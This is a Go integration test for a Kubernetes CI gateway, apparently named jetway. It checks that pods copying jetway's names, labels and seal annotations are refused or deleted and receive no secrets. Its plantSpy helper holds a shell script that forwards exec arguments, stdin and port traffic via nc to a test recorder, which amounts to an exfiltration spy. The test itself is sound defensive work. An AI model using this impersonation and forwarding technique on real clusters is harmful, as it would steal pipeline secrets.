package integration

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes/scheme"
	"k8s.io/client-go/tools/remotecommand"

	"github.com/jetway-ci/jetway/client"
	"github.com/jetway-ci/jetway/integration/cluster"
	"github.com/jetway-ci/jetway/internal/ownership"
	"github.com/jetway-ci/jetway/steppod"
	"github.com/jetway-ci/jetway/wire"
)

// TestRealNodeCopiedSealsGetNothing: someone who may create pods in a
// target namespace copies a pod of jetway's (its name, labels, and its
// seal, nonce and binding annotations) onto a pod of their own, made
// under that name once jetway's is gone. The copy is a spy: it sends
// whatever reaches it, an exec of the step agent (its arguments and
// stdin) or a connection to the sidecar's port, to a recorder on the
// node's bridge. Under a step output's name, a later step's input
// stream from it is refused; under a resubmitted step's name, made before
// jetway's create, it is deleted and the step runs in a pod jetway made;
// under a check sandbox's name, a restarted gateway takes no check to
// it; under the volume holder's name, it is deleted and a new holder
// made. None of the spies recorded anything, though each records what
// the test itself sends it; each refusal is counted.
func TestRealNodeCopiedSealsGetNothing(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	const ns = "rn-copied"
	rn := startRealNode(t)
	dir := t.TempDir()
	placeTarget(ctx, t, rn, dir, ns, "{}\n", "")
	opts := gatewayOptions{agentImage: rn.NodeImage("step-agent-image.tar"), retain: time.Second,
		holderBindGrace: 2 * time.Second, state: newState(t)}
	g := startGateway(t, dir, opts)
	g.waitTarget(t, ns, 10*time.Second, running)
	c, err := client.New(client.Options{URL: g.base})
	require.NoError(t, err)
	rec := startRecorder(t)
	pods := rn.Client.CoreV1().Pods(ns)

	// A step's output, its pod replaced by a spy: a later step's input
	// from it gets nothing from the spy, and the spy gets no request.
	src := nodeStep("cs-src", `echo team-main-secret > out/secret`)
	src.Team, src.Outputs = "main", []wire.Output{{Name: "out"}}
	g.run(t, src)
	require.Equal(t, wire.Succeeded, g.waitEnded(t, "cs-src", "main").Phase)
	srcPod := replaceWithSpy(ctx, t, rn, ns, g.stepPodName(t, "cs-src", "main"), rec, "output")
	consume := nodeStep("cs-consume", `cat in/secret`)
	consume.Team = "main"
	// (By the pod and volume: the step's record knows its pod went.)
	consume.Inputs = []wire.Input{{Name: "in", From: wire.InputSource{Target: ns, Pod: srcPod.Name, Handle: steppod.OutputVolume("out")}}}
	g.run(t, consume)
	v := g.waitEnded(t, "cs-consume", "main")
	assert.Equal(t, wire.Errored, v.Phase)
	assert.Contains(t, v.Message, "not found", "the input's pod answers as missing")
	assert.GreaterOrEqual(t, metricValue(t, g, `jetway_streams_rejected_total{reason="unbound"}`), 1.0)

	// A step resubmitted under a handle used before: the spy has its
	// pod's name from the first time, made before jetway's create.
	first := nodeStep("cs-again", `echo first`)
	first.Team = "main"
	g.run(t, first)
	require.Equal(t, wire.Succeeded, g.waitEnded(t, "cs-again", "main").Phase)
	againPod := g.stepPodName(t, "cs-again", "main")
	_, err = c.Abort(ctx, "main", "cs-again") // released: its pod goes, then its record
	require.NoError(t, err)
	eventually(t, time.Minute, func() error {
		if _, err := c.Step(ctx, "main", "cs-again"); err == nil {
			return errorf("cs-again not forgotten yet")
		}
		return nil
	})
	spy := replaceWithSpy(ctx, t, rn, ns, againPod, rec, "resubmitted")
	second := nodeStep("cs-again", `echo "second $SECRET"`)
	second.Team, second.Run.Env = "main", map[string]string{"SECRET": "team-main-env-secret"}
	g.run(t, second)
	v = g.waitEnded(t, "cs-again", "main")
	require.Equal(t, wire.Succeeded, v.Phase, "%+v", v)
	assert.Equal(t, "second team-main-env-secret\n", outputOf(g.stepEvents(ctx, t, "cs-again", "&team=main", 0), wire.EventStdout))
	ran, err := pods.Get(ctx, againPod, metav1.GetOptions{})
	require.NoError(t, err)
	assert.NotEqual(t, spy.UID, ran.UID, "the step ran in a pod jetway made")
	assert.True(t, podKeyOf(t, g).Bound(ns, ran))
	assert.GreaterOrEqual(t, metricValue(t, g, `jetway_steps_rejected_total{reason="unbound"}`), 1.0)
	assert.Contains(t, g.logs.String(), "pod deleted: it has the step's name and seal but is not bound to jetway's create")

	// A check sandbox, its pod replaced by a spy while no gateway runs: the
	// restarted gateway's placer takes no check to it.
	check := func(handle string) string {
		versions, err := c.CheckResource(ctx, client.ResourceStep{Handle: handle, Image: cluster.BusyboxImage,
			Source: map[string]string{"uri": "git://secret-token@x"}, ReuseKey: "repo"})
		require.NoError(t, err)
		assert.Equal(t, []client.Version{{"ref": "a"}, {"ref": "b"}}, versions)
		return g.step(t, handle).Pod
	}
	sandbox := check("cs-check-1")
	addr := strings.TrimPrefix(g.base, "http://")
	g.stop()
	replaceWithSpy(ctx, t, rn, ns, sandbox, rec, "sandbox")
	opts.listen = addr
	g = startGateway(t, dir, opts)
	g.waitTarget(t, ns, 10*time.Second, running)
	assert.NotEqual(t, sandbox, check("cs-check-2"), "the check ran in a sandbox jetway made")
	assert.GreaterOrEqual(t, metricValue(t, g, `jetway_steps_rejected_total{reason="unbound"}`), 1.0)
	assert.Regexp(t, `"msg":"pod refused as a check sandbox: it has a sandbox's labels but jetway did not make it",.*"pod":"`+sandbox+`",.*"why":"unbound"`, g.logs.String())

	// The volume holder, replaced by a spy: the next call of the web node's
	// deletes it after the grace and makes a new holder.
	api := httptest.NewServer(g.holder.API(ns))
	defer api.Close()
	volume := func(handle string) {
		resp, err := http.Post(api.URL+"/volumes", "application/json", strings.NewReader(`{"handle":"`+handle+`","strategy":{"type":"empty"}}`))
		require.NoError(t, err)
		resp.Body.Close()
		require.Equal(t, http.StatusCreated, resp.StatusCode, handle)
	}
	volume("before")
	holder := steppod.HolderName("jetway")
	holderSpy := replaceWithSpy(ctx, t, rn, ns, holder, rec, "holder")
	volume("after")
	now, err := pods.Get(ctx, holder, metav1.GetOptions{})
	require.NoError(t, err)
	assert.NotEqual(t, holderSpy.UID, now.UID, "a new holder")
	assert.True(t, podKeyOf(t, g).Bound(ns, now))
	assert.Equal(t, 1.0, metricValue(t, g, `jetway_concourse_pods_refused_total{reason="unbound"}`))

	// Nothing reached any spy; what the test sends the one still there,
	// through the exec and the port a gateway would use, reaches it.
	assert.Empty(t, rec.received(), "no spy got a request")
	_, err = pods.Get(ctx, srcPod.Name, metav1.GetOptions{})
	require.NoError(t, err, "the output's spy is left alone: jetway used it for nothing")
	probeSpy(ctx, t, rn, srcPod)
	eventually(t, 30*time.Second, func() error {
		got := rec.received()
		slices.Sort(got)
		if !assert.ObjectsAreEqual([]string{"output 7788\nprobe-7788", "output exec probe\nprobe-exec-stdin"}, got) {
			return errorf("the recorder has %q", got)
		}
		return nil
	})
	assert.NotContains(t, g.logs.String(), "secret-token", "a check's source reaches no log")
}

// replaceWithSpy deletes the pod name of ns (jetway's) and makes in its
// place a spy (plantSpy) with all of its metadata.
func replaceWithSpy(ctx context.Context, t *testing.T, c *cluster.Cluster, ns, name string, rec *recorder, tag string) *corev1.Pod {
	t.Helper()
	pods := c.Client.CoreV1().Pods(ns)
	orig, err := pods.Get(ctx, name, metav1.GetOptions{})
	require.NoError(t, err)
	now := int64(0)
	require.NoError(t, pods.Delete(ctx, name, metav1.DeleteOptions{GracePeriodSeconds: &now}))
	eventually(t, time.Minute, func() error {
		if p, err := pods.Get(ctx, name, metav1.GetOptions{}); !apierrors.IsNotFound(err) {
			return errorf("pod %s not gone yet (%v)", name, p.GetUID())
		}
		return nil
	})
	return plantSpy(ctx, t, c, orig, rec, tag)
}

// plantSpy makes, under orig's name, a pod with its labels and
// annotations (its seal, nonce and binding copied) whose one container
// sends rec what reaches it, each line tagged: an exec of bin/step-agent
// in its working dir (as the gateway runs the agent), "TAG exec ARGS"
// then its stdin; each connection to port 7788 (the sidecar's), "TAG
// 7788" then what the connection sent. It returns once the spy runs.
func plantSpy(ctx context.Context, t *testing.T, c *cluster.Cluster, orig *corev1.Pod, rec *recorder, tag string) *corev1.Pod {
	t.Helper()
	to := cluster.NodeIP + " " + strconv.Itoa(rec.port())
	script := fmt.Sprintf(`mkdir -p /jetway/bin
printf '#!/bin/sh\n{ echo "%[1]s exec $*"; cat; } | nc %[2]s\n' > /jetway/bin/step-agent
chmod 755 /jetway/bin/step-agent
while :; do { echo "%[1]s 7788"; nc -l -p 7788; } | nc %[2]s; done`, tag, to)
	spy := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: orig.Name, Namespace: orig.Namespace, Labels: orig.Labels, Annotations: orig.Annotations},
		Spec: corev1.PodSpec{NodeSelector: orig.Spec.NodeSelector, Tolerations: orig.Spec.Tolerations,
			Volumes: []corev1.Volume{{Name: "jetway", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}}},
			// Named as the original's first container (the step's, or the
			// holder's sidecar), so that it looks to jetway as that did.
			Containers: []corev1.Container{{Name: orig.Spec.Containers[0].Name, Image: cluster.BusyboxImage, ImagePullPolicy: corev1.PullIfNotPresent,
				Command: []string{"sh", "-c", script}, WorkingDir: "/jetway",
				VolumeMounts: []corev1.VolumeMount{{Name: "jetway", MountPath: "/jetway"}}}}},
	}
	_, err := c.Client.CoreV1().Pods(orig.Namespace).Create(ctx, spy, metav1.CreateOptions{})
	require.NoError(t, err)
	return waitRunning(ctx, t, c.Client, orig.Namespace, orig.Name)
}

// teamStep is team's step handle as g shows it.
func (g *gateway) teamStep(t *testing.T, handle, team string) wire.View {
	t.Helper()
	var v wire.View
	g.get(t, "/api/v1/steps/"+handle+"?team="+team, &v)
	return v
}

// waitEnded waits for team's step handle to end, and returns its view.
func (g *gateway) waitEnded(t *testing.T, handle, team string) wire.View {
	t.Helper()
	var v wire.View
	eventually(t, 2*time.Minute, func() error {
		if v = g.teamStep(t, handle, team); v.FinishedAt.IsZero() {
			return errorf("%s is %s", handle, v.Phase)
		}
		return nil
	})
	return v
}

// stepPodName is the pod of team's step handle.
func (g *gateway) stepPodName(t *testing.T, handle, team string) string {
	t.Helper()
	pod := g.teamStep(t, handle, team).Pod
	require.NotEmpty(t, pod, "%s has no pod", handle)
	return pod
}

// podKeyOf is the pod key g seals and binds with, as its state namespace
// holds it.
func podKeyOf(t *testing.T, g *gateway) ownership.Key {
	t.Helper()
	return g.state.loadKey(t, "jetway")
}

// probeSpy sends spy, as the test, what a gateway would: an exec of the
// agent with stdin, and a connection to the sidecar's port.
func probeSpy(ctx context.Context, t *testing.T, c *cluster.Cluster, spy *corev1.Pod) {
	t.Helper()
	req := c.Client.CoreV1().RESTClient().Post().Resource("pods").Namespace(spy.Namespace).Name(spy.Name).SubResource("exec").
		VersionedParams(&corev1.PodExecOptions{Container: steppod.StepContainer, Command: []string{"bin/step-agent", "probe"},
			Stdin: true, Stdout: true, Stderr: true}, scheme.ParameterCodec)
	ex, err := remotecommand.NewWebSocketExecutor(c.AdminConfig(), "GET", req.URL().String())
	require.NoError(t, err)
	var stdout, stderr bytes.Buffer // written at once by two of client-go's goroutines
	ectx, cancel := context.WithTimeout(ctx, 30*time.Second)
	defer cancel()
	require.NoError(t, ex.StreamWithContext(ectx, remotecommand.StreamOptions{Stdin: strings.NewReader("probe-exec-stdin"),
		Stdout: &stdout, Stderr: &stderr}), stdout.String()+stderr.String())
	conn, err := net.DialTimeout("tcp", net.JoinHostPort(spy.Status.PodIP, "7788"), 10*time.Second)
	require.NoError(t, err)
	_, err = conn.Write([]byte("probe-7788"))
	require.NoError(t, err)
	require.NoError(t, conn.Close())
}

// recorder keeps what connections to it on the node's bridge send:
// what the spies forward.
type recorder struct {
	ln    net.Listener
	mu    sync.Mutex
	conns []*bytes.Buffer
	wg    sync.WaitGroup
}

func startRecorder(t *testing.T) *recorder {
	t.Helper()
	ln, err := net.Listen("tcp", net.JoinHostPort(cluster.NodeIP, "0"))
	require.NoError(t, err)
	r := &recorder{ln: ln}
	var open sync.Map
	r.wg.Go(func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			open.Store(conn, true)
			buf := &bytes.Buffer{}
			r.mu.Lock()
			r.conns = append(r.conns, buf)
			r.mu.Unlock()
			r.wg.Go(func() {
				defer open.Delete(conn)
				defer conn.Close()
				b := make([]byte, 4096)
				for {
					n, err := conn.Read(b)
					r.mu.Lock()
					buf.Write(b[:n])
					r.mu.Unlock()
					if err != nil {
						return
					}
				}
			})
		}
	})
	t.Cleanup(func() {
		ln.Close()
		open.Range(func(c, _ any) bool { c.(net.Conn).Close(); return true })
		r.wg.Wait()
	})
	return r
}

func (r *recorder) port() int { return r.ln.Addr().(*net.TCPAddr).Port }

// received is what each connection sent beyond its spy's tag line, for
// the connections that sent anything more: each "TAG what\ncontent".
func (r *recorder) received() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	var out []string
	for _, b := range r.conns {
		s := b.String()
		if head, rest, ok := strings.Cut(s, "\n"); ok && (rest != "" || strings.Contains(head, " exec ")) {
			out = append(out, strings.TrimSuffix(head+"\n"+rest, "\n"))
		}
	}
	return out
}
